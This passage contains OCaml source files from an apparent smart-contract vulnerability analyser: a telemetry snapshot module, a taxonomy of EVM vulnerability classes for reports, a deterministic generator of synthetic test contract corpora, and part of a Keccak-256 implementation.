  Mutex.lock sources_mu;
  Hashtbl.remove sources name;
  Mutex.unlock sources_mu

(* The decoded-program cache lives below this layer (lib/evm), which
   must not depend on telemetry; register its counters from here so
   every consumer sees a built-in "evm_program" source. *)
let () =
  register_source "evm_program" (fun () ->
      Ethainter_evm.Program.telemetry_pairs ())

let capture () =
  let it = I.stats () in
  let ds = D.stats () in
  let thunks =
    (* snapshot the registry under the mutex, run the thunks outside
       it: a slow source must not block concurrent (un)registration *)
    Mutex.lock sources_mu;
    let l = Hashtbl.fold (fun k f acc -> (k, f) :: acc) sources [] in
    Mutex.unlock sources_mu;
    List.sort (fun (a, _) (b, _) -> compare a b) l
  in
  let extras =
    List.map (fun (name, f) -> (name, (try f () with _ -> []))) thunks
  in
  let qs = Scheduler.Quarantine.stats () in
  { cache_fe = Pipeline.frontend_cache_stats ();
    cache_be = Pipeline.cache_stats ();
    intern_interned = it.I.interned;
    intern_local_hits = it.I.local_hits;
    intern_shared_hits = it.I.shared_hits;
    intern_inserts = it.I.inserts;
    datalog_plans_built = ds.D.plans_built;
    datalog_plan_reuses = ds.D.plan_reuses;
    scheduler_retries = Scheduler.retries_performed ();
    scheduler_quarantine_trips = qs.Scheduler.Quarantine.q_trips;
    scheduler_quarantine_rejections = qs.Scheduler.Quarantine.q_rejections;
    scheduler_quarantine_open = qs.Scheduler.Quarantine.q_open;
    extras }

(* ---------------- diff ---------------- *)

(* Counters subtract; gauges (size, capacity) keep the later value. *)
let diff_cache (l : Cache.stats) (e : Cache.stats) : Cache.stats =
  { Cache.hits = l.Cache.hits - e.Cache.hits;
    disk_hits = l.Cache.disk_hits - e.Cache.disk_hits;
    misses = l.Cache.misses - e.Cache.misses;
    rejected = l.Cache.rejected - e.Cache.rejected;
    evictions = l.Cache.evictions - e.Cache.evictions;
    disk_writes = l.Cache.disk_writes - e.Cache.disk_writes;
    io_errors = l.Cache.io_errors - e.Cache.io_errors;
    size = l.Cache.size;
    capacity = l.Cache.capacity }

let diff (l : snapshot) (e : snapshot) : snapshot =
  let extras =
    List.map
      (fun (name, lp) ->
        match List.assoc_opt name e.extras with
        | None -> (name, lp)
        | Some ep ->
            ( name,
              List.map
                (fun (k, v) ->
                  match List.assoc_opt k ep with
                  | Some v0 -> (k, v -. v0)
                  | None -> (k, v))
                lp ))
      l.extras
  in
  { cache_fe = diff_cache l.cache_fe e.cache_fe;
    cache_be = diff_cache l.cache_be e.cache_be;
    intern_interned = l.intern_interned - e.intern_interned;
    intern_local_hits = l.intern_local_hits - e.intern_local_hits;
    intern_shared_hits = l.intern_shared_hits - e.intern_shared_hits;
    intern_inserts = l.intern_inserts - e.intern_inserts;
    datalog_plans_built = l.datalog_plans_built - e.datalog_plans_built;
    datalog_plan_reuses = l.datalog_plan_reuses - e.datalog_plan_reuses;
    scheduler_retries = l.scheduler_retries - e.scheduler_retries;
    scheduler_quarantine_trips =
      l.scheduler_quarantine_trips - e.scheduler_quarantine_trips;
    scheduler_quarantine_rejections =
      l.scheduler_quarantine_rejections - e.scheduler_quarantine_rejections;
    (* open breakers are a gauge, not a counter *)
    scheduler_quarantine_open = l.scheduler_quarantine_open;
    extras }

(* ---------------- flat key/value form ---------------- *)

let cache_pairs prefix (s : Cache.stats) =
  [ (prefix ^ "_hits", float_of_int s.Cache.hits);
    (prefix ^ "_disk_hits", float_of_int s.Cache.disk_hits);
    (prefix ^ "_misses", float_of_int s.Cache.misses);
    (prefix ^ "_rejected", float_of_int s.Cache.rejected);
    (prefix ^ "_evictions", float_of_int s.Cache.evictions);
    (prefix ^ "_disk_writes", float_of_int s.Cache.disk_writes);
    (prefix ^ "_io_errors", float_of_int s.Cache.io_errors);
    (prefix ^ "_size", float_of_int s.Cache.size);
    (prefix ^ "_capacity", float_of_int s.Cache.capacity) ]

let core_pairs (s : snapshot) =
  cache_pairs "cache_fe" s.cache_fe
  @ cache_pairs "cache_be" s.cache_be
  @ [ ("intern_interned", float_of_int s.intern_interned);
      ("intern_local_hits", float_of_int s.intern_local_hits);
      ("intern_shared_hits", float_of_int s.intern_shared_hits);
      ("intern_inserts", float_of_int s.intern_inserts);
      ("datalog_plans_built", float_of_int s.datalog_plans_built);
      ("datalog_plan_reuses", float_of_int s.datalog_plan_reuses);
      ("scheduler_retries", float_of_int s.scheduler_retries);
      ("scheduler_quarantine_trips",
       float_of_int s.scheduler_quarantine_trips);
      ("scheduler_quarantine_rejections",
       float_of_int s.scheduler_quarantine_rejections);
      ("scheduler_quarantine_open",
       float_of_int s.scheduler_quarantine_open) ]

let to_pairs (s : snapshot) =
  core_pairs s @ List.concat_map (fun (_, ps) -> ps) s.extras

(* ---------------- pretty printing ---------------- *)

let pp fmt (s : snapshot) =
  Format.fprintf fmt "front-end %a@\nback-end %a" Cache.pp_stats s.cache_fe
    Cache.pp_stats s.cache_be;
  Format.fprintf fmt
    "@\nintern: %d interned, %d local hits, %d shared hits, %d inserts"
    s.intern_interned s.intern_local_hits s.intern_shared_hits
    s.intern_inserts;
  Format.fprintf fmt "@\ndatalog: %d plans built, %d reused"
    s.datalog_plans_built s.datalog_plan_reuses;
  Format.fprintf fmt
    "@\nscheduler: %d retries; quarantine %d open, %d trips, %d rejections"
    s.scheduler_retries s.scheduler_quarantine_open
    s.scheduler_quarantine_trips s.scheduler_quarantine_rejections;
  List.iter
    (fun (name, pairs) ->
      Format.fprintf fmt "@\n%s:" name;
      List.iteri
        (fun i (k, v) ->
          Format.fprintf fmt "%s %s=%g" (if i = 0 then "" else ",") k v)
        pairs)
    s.extras

(* ---------------- codec ---------------- *)

(* Same digest discipline as the Pipeline result codec: keccak over
   the body, checked before anything is parsed. *)

(* v2: added the scheduler_quarantine_* core keys (PR 9). *)
let codec_magic = "ethainter.telemetry.v2"

let digest_hex body =
  Ethainter_word.Hex.encode (Ethainter_crypto.Keccak.hash body)

(* Keys and source names are emitted space-separated on their own
   lines; anything that would break the framing is dropped rather than
   quoted — telemetry keys are identifiers by construction. *)
let token_ok k =
  k <> "" && String.for_all (fun c -> c <> ' ' && c <> '\n') k

let encode (s : snapshot) : string =
  let b = Buffer.create 1024 in
  Buffer.add_string b codec_magic;
  Buffer.add_char b '\n';
  let emit ps = List.iter (fun (k, v) -> Printf.bprintf b "%s %h\n" k v) ps in
  let core = core_pairs s in
  Printf.bprintf b "core %d\n" (List.length core);
  emit core;
  List.iter
    (fun (name, ps) ->
      if token_ok name then begin
        let ps = List.filter (fun (k, _) -> token_ok k) ps in
        Printf.bprintf b "source %s %d\n" name (List.length ps);
        emit ps
      end)
    s.extras;
  let body = Buffer.contents b in
  digest_hex body ^ "\n" ^ body

let decode (s : string) : snapshot option =
  let pos = ref 0 in
  let fail () = raise Exit in
  let line () =
    match String.index_from_opt s !pos '\n' with
    | None -> fail ()
    | Some i ->
        let l = String.sub s !pos (i - !pos) in
        pos := i + 1;
        l
  in
  let int_of w =
    match int_of_string_opt w with Some n -> n | None -> fail ()
  in
  let float_of w =
    match float_of_string_opt w with Some f -> f | None -> fail ()
  in
  let pair () =
    match String.split_on_char ' ' (line ()) with
    | [ k; v ] -> (k, float_of v)
    | _ -> fail ()
  in
  let pairs n =
    if n < 0 then fail ();
    List.init n (fun _ -> pair ())
  in
  try
    let digest = line () in
    let body = String.sub s !pos (String.length s - !pos) in
    if digest <> digest_hex body then fail ();
    if line () <> codec_magic then fail ();
    let core =
      match String.split_on_char ' ' (line ()) with
      | [ "core"; n ] -> pairs (int_of n)
      | _ -> fail ()
    in
    let rec sources acc =
      if !pos >= String.length s then List.rev acc
      else
        match String.split_on_char ' ' (line ()) with
        | [ "source"; name; n ] -> sources ((name, pairs (int_of n)) :: acc)
        | _ -> fail ()
    in
    let extras = sources [] in
    let get k =
      match List.assoc_opt k core with Some v -> v | None -> fail ()
    in
    let geti k = int_of_float (get k) in
    let cstats p =
      { Cache.hits = geti (p ^ "_hits");
        disk_hits = geti (p ^ "_disk_hits");
        misses = geti (p ^ "_misses");
        rejected = geti (p ^ "_rejected");
        evictions = geti (p ^ "_evictions");
        disk_writes = geti (p ^ "_disk_writes");
        io_errors = geti (p ^ "_io_errors");
        size = geti (p ^ "_size");
        capacity = geti (p ^ "_capacity") }
    in
    Some
      { cache_fe = cstats "cache_fe";
        cache_be = cstats "cache_be";
        intern_interned = geti "intern_interned";
        intern_local_hits = geti "intern_local_hits";
        intern_shared_hits = geti "intern_shared_hits";
        intern_inserts = geti "intern_inserts";
        datalog_plans_built = geti "datalog_plans_built";
        datalog_plan_reuses = geti "datalog_plan_reuses";
        scheduler_retries = geti "scheduler_retries";
        scheduler_quarantine_trips = geti "scheduler_quarantine_trips";
        scheduler_quarantine_rejections =
          geti "scheduler_quarantine_rejections";
        scheduler_quarantine_open = geti "scheduler_quarantine_open";
        extras }
  with _ -> None
