(** The one telemetry surface.

    Before this module, the process's observability counters were
    scattered over five ad-hoc interfaces — two cache-stats getters on
    {!Pipeline}, {!Ethainter_runtime.Intern.stats},
    {!Ethainter_datalog.Datalog.stats} and
    {!Scheduler.retries_performed} — and every consumer (the daemon's
    [stats] request, the CLIs' [--stats] lines, bench) stitched its own
    subset together. {!capture} takes one coherent snapshot of all of
    them; {!to_pairs} flattens it to the stable key/value form the
    serving protocol speaks; {!pp} renders the human [--stats] lines.

    Subsystems that live {e above} lib/core (the streaming index, a
    daemon) contribute counters by registering a {b source}: a named
    thunk returning key/value pairs, sampled at {!capture} time into
    [snapshot.extras]. This inverts the dependency — the index depends
    on core, never the reverse — while still landing its dirty-set /
    invalidation / re-analysis counters in the same snapshot everything
    else reads.

    Every numeric in the snapshot is {b cumulative} (monotonic since
    process start, modulo explicit cache clears). Consumers that want a
    per-window count capture twice and {!diff} — the pattern that
    replaced [Scheduler.reset_retries], whose process-wide reset raced
    between concurrent observers. *)

type snapshot = {
  cache_fe : Cache.stats;  (** front-end (artifact) cache *)
  cache_be : Cache.stats;  (** back-end (result) cache *)
  intern_interned : int;
  intern_local_hits : int;
  intern_shared_hits : int;
  intern_inserts : int;
  datalog_plans_built : int;
  datalog_plan_reuses : int;
  scheduler_retries : int;
      (** transient-failure retries ({!Scheduler.retries_performed}),
          monotonic — diff two snapshots for a window *)
  scheduler_quarantine_trips : int;
      (** circuit-breaker open transitions ({!Scheduler.Quarantine}),
          monotonic *)
  scheduler_quarantine_rejections : int;
      (** analyses refused by an open breaker, monotonic *)
  scheduler_quarantine_open : int;
      (** breakers open right now — a gauge: {!diff} keeps the later
          value *)
  extras : (string * (string * float) list) list;
      (** registered sources, sampled at {!capture}; sorted by source
          name, pair keys as the source returned them *)
}

val capture : unit -> snapshot
(** Sample every subsystem now. Each counter is internally coherent
    (its own mutex/Atomic); the snapshot as a whole is not a global
    atomic cut — fine for monotonic counters. A registered source that
    raises contributes no pairs (never fails the capture). *)

val register_source : string -> (unit -> (string * float) list) -> unit
(** [register_source name f] makes {!capture} include [(name, f ())]
    in [extras]. Re-registering a name replaces the previous thunk
    (sources survive their subsystem being rebuilt); thread-safe. The
    thunk runs on whatever thread calls {!capture} — it must be safe
    to call concurrently and should only read counters. *)

val unregister_source : string -> unit

val diff : snapshot -> snapshot -> snapshot
(** [diff later earlier] subtracts every cumulative counter
    (gauge-like fields — cache [size]/[capacity] — keep [later]'s
    value; extras pairs are subtracted key-wise where present in both,
    kept from [later] otherwise). This is how a test asserts "this
    window performed exactly K back-end misses and zero front-end
    recomputations". *)

val to_pairs : snapshot -> (string * float) list
(** The stable flat key/value form: [cache_fe_*] / [cache_be_*]
    (hits, disk_hits, misses, rejected, evictions, io_errors, size),
    [intern_*], [datalog_plans_built], [datalog_plan_reuses],
    [scheduler_retries], then each source's pairs verbatim. The
    daemon's [stats] response and bench JSON are built from this. *)

val pp : Format.formatter -> snapshot -> unit
(** Human-readable multi-line rendering (the CLIs' [--stats] output):
    one labeled line per subsystem, then one per source. *)

(** {1 Codec}

    A versioned, self-validating text serialization (same digest
    discipline as the {!Pipeline} result codec), so snapshots can
    cross a process boundary — bench emitting a snapshot a harness
    diffs later. [decode] is total: corrupt, truncated or
    wrong-version input is [None]. *)

val encode : snapshot -> string
val decode : string -> snapshot option
