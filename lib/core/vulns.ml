(** The vulnerability taxonomy of §3, and analysis reports. *)

type kind =
  | AccessibleSelfdestruct
      (** §3.3: a [SELFDESTRUCT] reachable by an arbitrary caller. *)
  | TaintedSelfdestruct
      (** §3.4: the beneficiary address of a [SELFDESTRUCT] can be
          tainted by an attacker (possibly through storage, across
          transactions), even if the instruction itself is guarded. *)
  | TaintedOwnerVariable
      (** §3.1: a storage location used to scrutinize the caller in a
          guard can be overwritten with attacker-controlled data. *)
  | TaintedDelegatecall
      (** §3.2: the code address of a [DELEGATECALL] is attacker-
          controlled. *)
  | UncheckedTaintedStaticcall
      (** §3.5: a [STATICCALL] whose output buffer overlaps its input
          buffer, without a RETURNDATASIZE check, on a tainted target:
          short returndata leaves attacker input in the output. *)

let all_kinds =
  [ AccessibleSelfdestruct; TaintedSelfdestruct; TaintedOwnerVariable;
    TaintedDelegatecall; UncheckedTaintedStaticcall ]

let kind_name = function
  | AccessibleSelfdestruct -> "accessible selfdestruct"
  | TaintedSelfdestruct -> "tainted selfdestruct"
  | TaintedOwnerVariable -> "tainted owner variable"
  | TaintedDelegatecall -> "tainted delegatecall"
  | UncheckedTaintedStaticcall -> "unchecked tainted staticcall"

let kind_id = function
  | AccessibleSelfdestruct -> "accessible-selfdestruct"
  | TaintedSelfdestruct -> "tainted-selfdestruct"
  | TaintedOwnerVariable -> "tainted-owner-variable"
  | TaintedDelegatecall -> "tainted-delegatecall"
  | UncheckedTaintedStaticcall -> "unchecked-tainted-staticcall"

let kind_of_id s =
  List.find_opt (fun k -> kind_id k = s) all_kinds

type report = {
  r_kind : kind;
  r_pc : int;               (** bytecode offset of the flagged statement *)
  r_block : int;
  r_orphan : bool;
      (** flagged statement lies in code with no path from the contract
          entry (no public entry point — Ethainter-Kill cannot exploit
          these, §6.1) *)
  r_composite : bool;
      (** exploiting requires escalation through storage taint (the ✰
          marker of Fig. 6) *)
  r_note : string;
}

let pp_report fmt (r : report) =
  Format.fprintf fmt "%s @@pc=%d%s%s%s" (kind_name r.r_kind) r.r_pc
    (if r.r_orphan then " [no public entry]" else "")
    (if r.r_composite then " [composite]" else "")
    (if r.r_note = "" then "" else " (" ^ r.r_note ^ ")")

let report_to_string r = Format.asprintf "%a" pp_report r
