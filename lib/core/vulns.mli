(** The vulnerability taxonomy of §3, and analysis reports. *)

type kind =
  | AccessibleSelfdestruct
      (** §3.3: a [SELFDESTRUCT] reachable by an arbitrary caller. *)
  | TaintedSelfdestruct
      (** §3.4: the beneficiary of a [SELFDESTRUCT] is attacker-
          taintable (possibly through storage, across transactions),
          even if the instruction itself is guarded. *)
  | TaintedOwnerVariable
      (** §3.1: a storage location trusted by a sender guard can be
          overwritten with attacker-controlled data. *)
  | TaintedDelegatecall
      (** §3.2: the code address of a [DELEGATECALL] is attacker-
          controlled. *)
  | UncheckedTaintedStaticcall
      (** §3.5: [STATICCALL] with the output buffer overlapping the
          input buffer and no RETURNDATASIZE check: short returndata
          leaves attacker input in the output. *)

val all_kinds : kind list
val kind_name : kind -> string
(** Human-readable, e.g. ["accessible selfdestruct"]. *)

val kind_id : kind -> string
(** Stable kebab-case identifier, e.g. ["accessible-selfdestruct"]. *)

val kind_of_id : string -> kind option
(** Inverse of {!kind_id} — used by the on-disk result codec. *)

type report = {
  r_kind : kind;
  r_pc : int;      (** bytecode offset of the flagged statement *)
  r_block : int;   (** entry pc of its basic block *)
  r_orphan : bool;
      (** flagged statement lies in code with no path from the entry
          (no public entry point — Ethainter-Kill cannot reach it) *)
  r_composite : bool;
      (** exploitation requires defeating sender guards through
          storage-taint escalation (the ✰ marker of Fig. 6) *)
  r_note : string;
}

val pp_report : Format.formatter -> report -> unit
val report_to_string : report -> string
