(** Deterministic corpus generation.

    Substitutes for the paper's evaluation universes:
    - a {e mainnet-like} corpus (§6.2: 240K unique bytecodes; ours is
      size-configurable with the same *shape*: a large safe majority,
      ~1%-scale slices of each vulnerability class, rare staticcall
      cases, ETH balances concentrated in carefully-built contracts);
    - a {e Ropsten-like} corpus (§6.1: recent testnet blocks, a higher
      density of throwaway/vulnerable deployments, including flagged
      statements with no public entry point).

    Every instance is a genuine MiniSol contract compiled to EVM
    bytecode. Uniqueness of bytecodes is achieved the way real chains
    exhibit it — by source variation: filler state and functions are
    injected per instance (seeded, reproducible). Ground truth comes
    from the template ({!Patterns.truth}). *)

module U = Ethainter_word.Uint256

type instance = {
  i_id : int;
  i_name : string;
  i_template : Patterns.template;
  i_source : string;       (** varied source *)
  i_runtime : string;      (** compiled runtime bytecode *)
  i_deploy : string;       (** deployment bytecode *)
  i_eth_held : U.t;        (** simulated balance (wei) *)
  i_has_source : bool;     (** "verified on Etherscan" *)
}

(* xorshift-style deterministic PRNG; avoids OCaml Random for
   reproducibility across runs and versions *)
type rng = { mutable s : int64 }

let rng_of_seed (seed : int) = { s = Int64.of_int (seed * 2654435761 + 1) }

let next (r : rng) : int =
  let x = r.s in
  let x = Int64.logxor x (Int64.shift_left x 13) in
  let x = Int64.logxor x (Int64.shift_right_logical x 7) in
  let x = Int64.logxor x (Int64.shift_left x 17) in
  r.s <- x;
  Int64.to_int (Int64.logand x 0x3FFFFFFFFFFFFFFFL)

let pick (r : rng) (l : 'a list) = List.nth l (next r mod List.length l)

(* Inject filler members so each instance has a distinct bytecode.
   Fillers are stateless (no storage writes) so they vary the code
   without perturbing any tool's storage-related verdicts. [fillers]
   bounds how many are injected (inclusive range): the default (1, 3)
   yields compact contracts; larger ranges approximate the multi-KB
   runtimes typical of real mainnet deployments. *)
let vary_source ?(fillers = (1, 3)) (r : rng) (src : string) : string =
  let lo, hi = fillers in
  let n_fillers = lo + (next r mod (max 1 (hi - lo + 1))) in
  let filler i =
    let tag = Printf.sprintf "%x%d" (next r land 0xffffff) i in
    match next r mod 3 with
    | 0 ->
        Printf.sprintf
          "  function probe_%s(uint256 x) public returns (uint256) { require(x < %d); return x + %d; }\n"
          tag
          (1 + (next r mod 1000))
          (1 + (next r mod 9))
    | 1 ->
        Printf.sprintf
          "  function mix_%s(uint256 a, uint256 b) public returns (uint256) { require(a < b); return a * %d + b; }\n"
          tag
          (2 + (next r mod 7))
    | _ ->
        Printf.sprintf
          "  function digest_%s(uint256 x) public returns (uint256) { require(x < 4096); return keccak256(x) %% %d; }\n"
          tag
          (7 + (next r mod 1000))
  in
  let fillers = String.concat "" (List.init n_fillers filler) in
  (* insert before the final closing brace *)
  match String.rindex_opt src '}' with
  | Some i -> String.sub src 0 i ^ fillers ^ "}"
  | None -> src

(* ETH balances: the paper notes the distribution is strongly biased —
   value concentrates in carefully-built (safe) contracts, while the
   truly vulnerable mostly hold dust (§6.2 discussion of Pérez &
   Livshits). *)
let balance_for (r : rng) (t : Patterns.template) : U.t =
  let eth v = U.mul (U.of_int v) (U.exp (U.of_int 10) (U.of_int 15)) in
  if t.Patterns.t_truth.Patterns.vulnerable = [] then
    (* safe: frequently substantial *)
    eth (next r mod 2_000_000)
  else if next r mod 20 = 0 then eth (next r mod 50_000) (* rare rich victim *)
  else eth (next r mod 5)

let make_instance ~(id : int) ?fillers (r : rng) (t : Patterns.template) :
    instance =
  let src = vary_source ?fillers r t.Patterns.t_source in
  let contract = Ethainter_minisol.Parser.parse src in
  let runtime = Ethainter_minisol.Codegen.compile_runtime contract in
  let deploy = Ethainter_minisol.Codegen.compile_deploy contract in
  { i_id = id;
    i_name = Printf.sprintf "%s_%d" t.Patterns.t_name id;
    i_template = t; i_source = src; i_runtime = runtime; i_deploy = deploy;
    i_eth_held = balance_for r t;
    i_has_source = next r mod 10 < 8 (* ~80% verified *) }

(** Weights for the mainnet-like mix, tuned so flagged percentages land
    in the same regime as §6.2's table (accessible selfdestruct ~1%,
    tainted owner ~1.3%, tainted/delegatecall ~0.2%, staticcall
    rare). *)
let mainnet_weights : (Patterns.template * int) list =
  let w name n =
    match Patterns.find name with
    | Some t -> (t, n)
    | None -> invalid_arg ("unknown template " ^ name)
  in
  [ (* safe bulk: ~98.5% — dominated by guarded or stateless code, as
       on the real chain *)
    w "safe_wallet" 300; w "token" 420; w "vault" 280; w "role_registry" 220;
    w "safe_migrator" 220; w "checked_wallet_verifier" 120; w "counter" 340;
    w "unstructured_storage" 40; w "oracle" 450; w "pinger" 500;
    w "multisig" 120; w "pausable_token" 160; w "two_step_ownership" 90;
    w "origin_guard" 60; w "proxy_1967" 50;
    (* accessible selfdestruct ~1% (incl. composites that unlock it) *)
    w "open_kill" 12; w "victim_composite" 3; w "race_initializer" 3;
    w "buyable_ownership" 2; w "chained_roles" 2;
    (* tainted owner *)
    w "tainted_owner" 8; w "supply_manip" 4;
    (* tainted delegatecall *)
    w "open_delegate" 2; w "delegate_via_storage" 2; w "broken_proxy" 1;
    (* composite crowdsale drain *)
    w "crowdsale_vulnerable" 1;
    (* tainted selfdestruct extra *)
    w "tainted_beneficiary" 2;
    (* unchecked staticcall: rare, recent opcode *)
    w "unchecked_static" 1;
    (* orphan code *)
    w "private_kill_unreachable" 3;
    (* FP traps: a visible sliver, as in Fig. 6 *)
    w "complex_path_condition" 3; w "not_an_owner_var" 3;
    w "inter_function_flow" 2; w "imprecise_ds" 2 ]

(** Ropsten-like mix (§6.1): test deployments skew heavily toward
    throwaway and broken contracts; flagged rate 0.54% of all, but we
    only materialize the interesting neighbourhood plus safe
    background. *)
let ropsten_weights : (Patterns.template * int) list =
  let w name n =
    match Patterns.find name with
    | Some t -> (t, n)
    | None -> invalid_arg ("unknown template " ^ name)
  in
  [ w "counter" 60; w "token" 50; w "safe_wallet" 40; w "vault" 30;
    (* exploitable minority *)
    w "open_kill" 6; w "victim_composite" 3; w "race_initializer" 3;
    w "tainted_owner" 4; w "buyable_ownership" 2; w "chained_roles" 2;
    (* flagged but not exploitable by Kill: guarded triggers, orphan
       code, and analysis FPs — the §6.1 gap between flagged (4800)
       and destroyed (805) *)
    w "tainted_beneficiary" 10; w "private_kill_unreachable" 16;
    w "complex_path_condition" 10; w "inter_function_flow" 6;
    w "not_an_owner_var" 3; w "imprecise_ds" 6 ]

let expand_weights (weights : (Patterns.template * int) list) ~(scale : float)
    : Patterns.template list =
  List.concat_map
    (fun (t, n) ->
      let n = max (if n > 0 then 1 else 0) (int_of_float (float_of_int n *. scale)) in
      List.init n (fun _ -> t))
    weights

(** Generate a corpus of roughly [size] instances (deterministic in
    [seed]). *)
let generate ?(seed = 42) ?fillers
    ~(weights : (Patterns.template * int) list) ~(size : int) () :
    instance list =
  let total_w = List.fold_left (fun a (_, n) -> a + n) 0 weights in
  let scale = float_of_int size /. float_of_int total_w in
  let templates = expand_weights weights ~scale in
  let r = rng_of_seed seed in
  (* shuffle deterministically *)
  let arr = Array.of_list templates in
  for i = Array.length arr - 1 downto 1 do
    let j = next r mod (i + 1) in
    let t = arr.(i) in
    arr.(i) <- arr.(j);
    arr.(j) <- t
  done;
  Array.to_list arr |> List.mapi (fun id t -> make_instance ~id ?fillers r t)

let mainnet ?(seed = 42) ?fillers ~(size : int) () =
  generate ~seed ?fillers ~weights:mainnet_weights ~size ()

let ropsten ?(seed = 1337) ?fillers ~(size : int) () =
  generate ~seed ?fillers ~weights:ropsten_weights ~size ()

(** Securify2-style source metadata for an instance. *)
let source_info (i : instance) : Ethainter_baselines.Securify2.source_info =
  { Ethainter_baselines.Securify2.src =
      (if i.i_has_source then Some i.i_source else None);
    solidity_version = i.i_template.Patterns.t_solidity_version;
    uses_assembly = i.i_template.Patterns.t_uses_assembly }

(** Ground truth helpers *)
let truly_vulnerable (i : instance) (k : Ethainter_core.Vulns.kind) : bool =
  List.mem k i.i_template.Patterns.t_truth.Patterns.vulnerable

let expected_fp (i : instance) (k : Ethainter_core.Vulns.kind) : bool =
  List.mem k i.i_template.Patterns.t_truth.Patterns.fp_for
