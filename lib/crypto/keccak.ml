(** Keccak-256 as used by Ethereum (the original Keccak padding, 0x01,
    not the NIST SHA-3 padding 0x06).

    This is the hash behind the EVM [SHA3] opcode, Solidity function
    selectors, and the storage-slot derivation for mappings and dynamic
    arrays — the very mechanism the paper's DS/DSA rules (Fig. 4) model.

    Implementation: Keccak-f[1600] permutation over a 5x5 state of
    64-bit lanes; rate 1088 bits (136 bytes), capacity 512, output 256
    bits.

    Each 64-bit lane is stored as two 32-bit halves in plain [int]
    arrays. OCaml's [int64 array] boxes every element, so an
    [Int64]-based permutation allocates on every lane operation —
    thousands of short-lived boxes per permutation, an order of
    magnitude slower. With unboxed halves the whole permutation is
    allocation-free. *)

(* Round constants for the iota step (standard Keccak constants). *)
let round_constants =
  [| 0x0000000000000001L; 0x0000000000008082L; 0x800000000000808aL;
     0x8000000080008000L; 0x000000000000808bL; 0x0000000080000001L;
     0x8000000080008081L; 0x8000000000008009L; 0x000000000000008aL;
     0x0000000000000088L; 0x0000000080008009L; 0x000000008000000aL;
     0x000000008000808bL; 0x800000000000008bL; 0x8000000000008089L;
     0x8000000000008003L; 0x8000000000008002L; 0x8000000000000080L;
     0x000000000000800aL; 0x800000008000000aL; 0x8000000080008081L;
     0x8000000000008080L; 0x0000000080000001L; 0x8000000080008008L |]

let rc_hi =
  Array.map
    (fun c -> Int64.to_int (Int64.shift_right_logical c 32))
    round_constants

let rc_lo =
  Array.map (fun c -> Int64.to_int (Int64.logand c 0xFFFFFFFFL))
    round_constants

(* Rotation offsets for the rho step, indexed [x + 5*y]. *)
let rotation_offsets =
  [| 0; 1; 62; 28; 27;
     36; 44; 6; 55; 20;
     3; 10; 43; 25; 39;
     41; 45; 15; 21; 8;
     18; 2; 61; 56; 14 |]

(* Destination index of the pi step: lane [x + 5*y] moves to
   [y + 5*((2x + 3y) mod 5)]. *)
let pi_dst =
  Array.init 25 (fun i ->
      let x = i mod 5 and y = i / 5 in
      y + (5 * (((2 * x) + (3 * y)) mod 5)))

(* x+1 mod 5 / x+2 mod 5 / x+4 mod 5, tabulated *)
let p1 = [| 1; 2; 3; 4; 0 |]
let p2 = [| 2; 3; 4; 0; 1 |]
let p4 = [| 4; 0; 1; 2; 3 |]

let mask32 = 0xFFFFFFFF

(* The permutation over hi/lo halves. [sh]/[sl] is the 25-lane state;
   the remaining arrays are caller-provided scratch (so a multi-block
   absorb reuses them). Allocation-free. *)
let keccak_f_hl (sh : int array) (sl : int array) (bh : int array)
    (bl : int array) (ch : int array) (cl : int array) (dh : int array)
    (dl : int array) : unit =
  (* all indices below are bounded by the fixed tables (< 25 / < 5);
     unsafe accesses keep the hot loops free of bounds checks *)
  for round = 0 to 23 do
    (* theta *)
    for x = 0 to 4 do
      Array.unsafe_set ch x
        (Array.unsafe_get sh x lxor Array.unsafe_get sh (x + 5) lxor Array.unsafe_get sh (x + 10) lxor Array.unsafe_get sh (x + 15)
        lxor Array.unsafe_get sh (x + 20));
      Array.unsafe_set cl x
        (Array.unsafe_get sl x lxor Array.unsafe_get sl (x + 5) lxor Array.unsafe_get sl (x + 10) lxor Array.unsafe_get sl (x + 15)
        lxor Array.unsafe_get sl (x + 20))
    done;
    for x = 0 to 4 do
      let h1 = Array.unsafe_get ch (Array.unsafe_get p1 x) and l1 = Array.unsafe_get cl (Array.unsafe_get p1 x) in
      (* rotl64 by 1 on a hi/lo pair *)
      Array.unsafe_set dh x (Array.unsafe_get ch (Array.unsafe_get p4 x) lxor (((h1 lsl 1) lor (l1 lsr 31)) land mask32));
      Array.unsafe_set dl x (Array.unsafe_get cl (Array.unsafe_get p4 x) lxor (((l1 lsl 1) lor (h1 lsr 31)) land mask32))
    done;
    for x = 0 to 4 do
      let dhx = Array.unsafe_get dh x and dlx = Array.unsafe_get dl x in
      for y = 0 to 4 do
        let i = x + (5 * y) in
        Array.unsafe_set sh i (Array.unsafe_get sh i lxor dhx);
        Array.unsafe_set sl i (Array.unsafe_get sl i lxor dlx)
      done
    done;
    (* rho + pi *)
    for i = 0 to 24 do
      let n = Array.unsafe_get rotation_offsets i in
      let j = Array.unsafe_get pi_dst i in
      let h = Array.unsafe_get sh i and l = Array.unsafe_get sl i in
      if n = 0 then begin
        Array.unsafe_set bh j h;
        Array.unsafe_set bl j l
      end
      else if n < 32 then begin
        Array.unsafe_set bh j (((h lsl n) lor (l lsr (32 - n))) land mask32);
        Array.unsafe_set bl j (((l lsl n) lor (h lsr (32 - n))) land mask32)
      end
      else if n = 32 then begin
        Array.unsafe_set bh j l;
        Array.unsafe_set bl j h
      end
      else begin
        let n = n - 32 in
        Array.unsafe_set bh j (((l lsl n) lor (h lsr (32 - n))) land mask32);
        Array.unsafe_set bl j (((h lsl n) lor (l lsr (32 - n))) land mask32)
      end
    done;
    (* chi *)
    for y = 0 to 4 do
      let r = 5 * y in
      for x = 0 to 4 do
        let i = x + r in
        let i1 = Array.unsafe_get p1 x + r and i2 = Array.unsafe_get p2 x + r in
        Array.unsafe_set sh i (Array.unsafe_get bh i lxor (lnot (Array.unsafe_get bh i1) land Array.unsafe_get bh i2));
        Array.unsafe_set sl i (Array.unsafe_get bl i lxor (lnot (Array.unsafe_get bl i1) land Array.unsafe_get bl i2))
      done
    done;
    (* iota *)
    Array.unsafe_set sh 0 (Array.unsafe_get sh 0 lxor Array.unsafe_get rc_hi round);
    Array.unsafe_set sl 0 (Array.unsafe_get sl 0 lxor Array.unsafe_get rc_lo round)
  done

(** The Keccak-f[1600] permutation over a 25-lane [int64] state, in
    place. Compatibility/testing entry point; the sponge below uses the
    unboxed-half representation directly. *)
let keccak_f (state : int64 array) : unit =
  let sh = Array.make 25 0 and sl = Array.make 25 0 in
  for i = 0 to 24 do
    sh.(i) <- Int64.to_int (Int64.shift_right_logical state.(i) 32);
